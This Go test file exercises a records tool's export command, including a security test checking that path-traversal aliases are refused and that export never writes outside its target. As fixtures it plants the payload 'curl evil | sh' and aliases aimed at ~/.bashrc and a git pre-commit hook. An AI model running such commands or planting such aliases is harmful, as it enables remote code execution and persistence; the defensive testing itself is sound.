package verbtest

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/git-records/git-records/kernel"
	updatecmd "github.com/git-records/git-records/pkg/cmd/record/update"
	exportcmd "github.com/git-records/git-records/pkg/cmd/store/export"
	verifycmd "github.com/git-records/git-records/pkg/cmd/store/verify"
	"github.com/git-records/git-records/pkg/cmdutil"
	"github.com/git-records/git-records/pkg/cmdutil/cmdtest"
)

// TestExportRun: a vault is one Markdown file per record in folders by
// category, wikilinks rewritten to titles; jsonl to - is one record per
// line on stdout (and refuses --json, which would mix two outputs); the
// destination and format land in the options.
func TestExportRun(t *testing.T) {
	st := cmdtest.NewStore(t)
	a := st.Create(t, kernel.CreateInput{Type: "concept", Title: "Token refresh", Category: "auth.tokens", Body: "Rotate.\n"})
	st.Create(t, kernel.CreateInput{Type: "concept", Title: "Sessions", Category: "auth", Body: "See [[" + a + "]].\n"})
	export := func(args ...string) cmdtest.Result {
		f, _, _, _ := st.Factory()
		return cmdtest.Run(f, exportcmd.NewCmdExport(f, nil), args...)
	}

	vault := filepath.Join(t.TempDir(), "vault")
	r := export(vault)
	require.Equal(t, 0, r.Code, r.String())
	assert.Equal(t, "exported 2 records to "+vault+" (vault)\n", r.Stdout)
	sessions, err := os.ReadFile(filepath.Join(vault, "auth", "Sessions.md"))
	require.NoError(t, err)
	assert.Contains(t, string(sessions), "See [[Token refresh|"+a+"]].", "the link names the note, its label keeps the id")
	assert.FileExists(t, filepath.Join(vault, "auth", "tokens", "Token refresh.md"))

	r = export("-", "--format", "jsonl")
	require.Equal(t, 0, r.Code, r.String())
	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	assert.Len(t, lines, 2)
	assert.Contains(t, r.Stdout, `"title":"Token refresh"`)
	export("--json", "-", "--format", "jsonl").Error(t, kernel.CodeUsage, cmdutil.ExitUsage)

	var rep map[string]any
	export("--json", filepath.Join(t.TempDir(), "v2")).JSON(t, &rep)
	assert.EqualValues(t, 2, rep["records"])
	r = export(vault)
	assert.NotEqual(t, 0, r.Code, "an export never writes into a vault that is not empty\n%s", r)
}

// TestExportStaysInItsTarget: export names files by aliases, so an alias
// may hold no path segment that climbs out ('..', '.', empty, absolute):
// create refuses one naming --alias, and verify refuses a signed hand
// commit that adds one. A store that holds such an alias from before the
// rule still reads, updates and exports: the record's file is named by
// its title, and neither ~/.bashrc nor .git/hooks/pre-commit is written.
func TestExportStaysInItsTarget(t *testing.T) {
	st := cmdtest.NewStore(t)
	tip := st.Tip(t)
	e := create(st, "--json", "--type", "concept", "--title", "T", "--category", "c", "--body", "b", "--agent", "alice",
		"--alias", "a/../../../.bashrc").Error(t, kernel.CodeMissingEvidence, cmdutil.ExitRefused)
	assert.Equal(t, "--alias", e["flag"])
	assert.Contains(t, e["message"], `--alias entry "a/../../../.bashrc" has the path segment ".."`)
	assert.Equal(t, tip, st.Tip(t), "nothing written")

	// The escape, planted as a store written before the rule would hold it:
	// a signed hand commit on the records branch.
	// Observed snapshots: export writes each one's payload beside its note,
	// at the alias itself.
	observe := func(title, payload string) string {
		res, err := st.Service(t).Observe(kernel.CreateInput{Type: "snapshot", Title: title, Category: "ops",
			Source: &kernel.Source{Extension: "github", ExternalID: "pull/" + title}, Provenance: kernel.Provenance{Agent: cmdtest.Agent}},
			[]byte(payload), kernel.Approval{})
		require.NoError(t, err)
		return res.ID
	}
	id := observe("Observed", "curl evil | sh\n")
	hook := observe("Hook", "#!/bin/sh\ncurl evil | sh\n")
	wt := filepath.Join(t.TempDir(), "wt")
	cmdtest.Git(t, st.Dir, "worktree", "add", "-q", wt, "records")
	plant := func(id, alias string) {
		matches, _ := filepath.Glob(filepath.Join(wt, "records", "snapshot", "*", id+".md"))
		require.Len(t, matches, 1)
		data, err := os.ReadFile(matches[0])
		require.NoError(t, err)
		s := strings.Replace(string(data), "\ncreated_at:", "\naliases: ["+alias+"]\ncreated_at:", 1)
		require.NotEqual(t, string(data), s)
		require.NoError(t, os.WriteFile(matches[0], []byte(s), 0o644))
	}
	plant(id, "a/../../../.bashrc")
	plant(hook, "a/../../../.git/hooks/pre-commit")
	key := filepath.Join(st.Dir, ".git", "records", "signing_key")
	require.FileExists(t, key)
	cmdtest.Git(t, wt, "-c", "gpg.format=ssh", "-c", "user.signingkey="+key, "commit", "-q", "-S", "-a",
		"-m", "update(snapshot): Observed\n\nRecord-Op: update\nRecord-Id: "+id+"\nRecord-Id: "+hook+
			"\nRecord-Agent: hand-editor\nRecord-Format: 1\nEvidence-Fields: aliases")
	f, _, _, _ := st.Factory()
	r := cmdtest.Run(f, verifycmd.NewCmdVerify(f, nil), "records~1..records")
	assert.Equal(t, cmdutil.ExitRefused, r.Code, r.String())
	assert.Regexp(t, `(?m)^✗ [0-9a-f]{12} record `+id+`: alias-path: aliases entry "a/../../../.bashrc" has the path segment ".."`, r.Stdout)

	// Reading and writing the record keep working.
	assert.Equal(t, []string{"a/../../../.bashrc"}, show(t, st, id).Aliases)
	f, _, _, _ = st.Factory()
	r = cmdtest.Run(f, updatecmd.NewCmdUpdate(f, nil), id, "--title", "Observed again", "--agent", "alice")
	require.Equal(t, 0, r.Code, r.String())
	f, _, _, _ = st.Factory()
	r = cmdtest.Run(f, verifycmd.NewCmdVerify(f, nil), "records~1..records")
	assert.Equal(t, 0, r.Code, "an update keeping an alias the record held claims nothing new\n%s", r)

	// Export to <repo>/exports/vault: the aliases reach <repo>/.bashrc and
	// the repository's pre-commit hook.
	home := st.Dir
	vault := filepath.Join(home, "exports", "vault")
	require.NoError(t, os.MkdirAll(filepath.Dir(vault), 0o755))
	f, _, _, errOut := st.Factory()
	r = cmdtest.Run(f, exportcmd.NewCmdExport(f, nil), vault)
	require.Equal(t, 0, r.Code, r.String())
	assert.Contains(t, errOut.String(), `warning: 2 aliases are not plain relative paths`)
	for _, p := range []string{filepath.Join(home, ".bashrc"), filepath.Join(st.Dir, ".git", "hooks", "pre-commit")} {
		assert.NoFileExists(t, p)
		assert.NoFileExists(t, p+".md")
	}
	assert.FileExists(t, filepath.Join(vault, "ops", "Observed again.md"), "named by its title")
	assert.FileExists(t, filepath.Join(vault, "ops", "Hook.md"))
	assert.FileExists(t, filepath.Join(vault, "ops", "Hook"), "the payload beside it")

	// A target that holds a link out is not the empty directory export
	// writes into: refused before anything is written through it.
	outside := t.TempDir()
	target := t.TempDir()
	require.NoError(t, os.Symlink(outside, filepath.Join(target, "ops")))
	f, _, _, _ = st.Factory()
	cmdtest.Run(f, exportcmd.NewCmdExport(f, nil), "--json", target).Error(t, kernel.CodeUsage, cmdutil.ExitUsage)
	entries, err := os.ReadDir(outside)
	require.NoError(t, err)
	assert.Empty(t, entries, "nothing written through the link")
}
